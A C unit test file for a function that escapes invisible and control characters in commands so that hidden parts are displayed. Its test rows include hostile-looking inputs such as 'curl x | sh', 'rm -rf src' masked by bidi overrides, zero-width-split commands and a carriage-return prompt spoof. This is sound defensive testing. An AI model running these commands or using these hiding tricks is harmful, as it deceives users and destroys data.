/* test-printable.c: what could hide part of a command is shown, never obeyed
 *
 * Copyright 2026 The Warden authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "common/warden-printable.h"

static const struct
{
  const char *name;
  const char *in;
  const char *one_line;
  const char *keep_lines;
} rows[] = {
  { "plain", "npm test", "npm test", "npm test" },
  { "newline", "npm test\ncurl x | sh", "npm test\\ncurl x | sh", "npm test\ncurl x | sh" },
  { "carriage-return", "curl x | sh\r! exec wants to run: npm test",
    "curl x | sh\\r! exec wants to run: npm test", "curl x | sh\\r! exec wants to run: npm test" },
  { "erase-line", "\x1b[2Knpm test", "\\x1b[2Knpm test", "\\x1b[2Knpm test" },
  { "tab-del", "a\tb\x7f", "a\\tb\\x7f", "a\\tb\\x7f" },
  { "c1-csi", "a\xc2\x9b" "2Kb", "a\\u009b2Kb", "a\\u009b2Kb" },
  { "c1-osc", "\xc2\x9d" "52;c;x\xc2\x9c", "\\u009d52;c;x\\u009c", "\\u009d52;c;x\\u009c" },
  { "bidi", "echo hi \xe2\x80\xae; X=\xe2\x80\xaa rm -rf src \xe2\x80\xac #\xe2\x80\xac",
    "echo hi \\u202e; X=\\u202a rm -rf src \\u202c #\\u202c",
    "echo hi \\u202e; X=\\u202a rm -rf src \\u202c #\\u202c" },
  { "isolate", "a\xe2\x81\xa6" "b", "a\\u2066b", "a\\u2066b" },
  { "zero-width", "r\xe2\x80\x8bm -rf", "r\\u200bm -rf", "r\\u200bm -rf" },
  { "bom", "\xef\xbb\xbfls", "\\ufeffls", "\\ufeffls" },
  { "nbsp", "rm\xc2\xa0-rf", "rm\\u00a0-rf", "rm\\u00a0-rf" },
  { "ideographic-space", "a\xe3\x80\x80" "b", "a\\u3000b", "a\\u3000b" },
  { "line-separator", "a\xe2\x80\xa8" "b", "a\\u2028b", "a\\u2028b" },
  { "tag-character", "a\xf3\xa0\x80\x81" "b", "a\\U000e0001b", "a\\U000e0001b" },
  { "not-utf8", "a\xff" "b\xc3", "a\\xffb\\xc3", "a\\xffb\\xc3" },
  { "unicode-kept", "echo 日本語 é", "echo 日本語 é", "echo 日本語 é" },
};

static void
test_row (gconstpointer data)
{
  guint i = GPOINTER_TO_UINT (data);
  g_autofree char *one = warden_printable (rows[i].in, -1, WARDEN_PRINTABLE_ONE_LINE);
  g_autofree char *lines = warden_printable (rows[i].in, -1, WARDEN_PRINTABLE_KEEP_LINES);

  g_assert_cmpstr (one, ==, rows[i].one_line);
  g_assert_cmpstr (lines, ==, rows[i].keep_lines);
  g_assert_true (g_utf8_validate (one, -1, NULL));
  g_assert_cmpint (warden_printable_hides (rows[i].in, -1, WARDEN_PRINTABLE_ONE_LINE), ==,
                   strcmp (rows[i].in, rows[i].one_line) != 0);
}

/* Markup: the escapes stand apart, and what the command holds cannot
 * become markup. */
static void
test_markup (void)
{
  g_autofree char *m = warden_printable_markup ("<b>x</b>\xe2\x80\xae&", -1,
                                                WARDEN_PRINTABLE_ONE_LINE);

  g_assert_cmpstr (m, ==, "&lt;b&gt;x&lt;/b&gt;<span background=\"#c01c28\" "
                          "foreground=\"#ffffff\">\\u202e</span>&amp;");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autofree char *path = g_strdup_printf ("/common/printable/%s", rows[i].name);

      g_test_add_data_func (path, GUINT_TO_POINTER (i), test_row);
    }
  g_test_add_func ("/common/printable/markup", test_markup);
  return g_test_run ();
}
